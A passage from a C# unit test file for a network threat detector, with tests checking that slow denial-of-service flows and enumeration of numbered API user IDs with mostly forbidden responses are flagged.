        foreach (var flow in flows) run.Send(flow with { LastPacket = run.Now.AddSeconds(0.5) }, FlowEventKind.Closed);
        Assert.Equal(shown, run.Found.Count > 0);
        Assert.All(run.Found, e => Assert.Equal(ThreatClass.SlowDos, e.Class));
    }

    [Theory]
    [InlineData(3, true)]
    [InlineData(1, false)]
    [InlineData(1000, false)]
    public void Numbers_counted_through_an_interface_are_shown_where_some_are_given_and_many_forbidden(int everyGiven, bool shown)
    {
        var run = new Events(new WebAttackDetector(Events.Context()));
        for (int i = 1; i <= 150; i++)
            run.Session(Client, Server, 80, 0.08, application: AppProtocol.Http, peeks: [Get($"/api/users/{i}"), new HttpResponse(i % everyGiven == 0 ? 200 : 403, "", 20) { FromResponder = true }]);
        Assert.Equal(shown, run.Found.Exists(e => e.Reason.Contains("differ in a number", StringComparison.Ordinal)));
    }
}
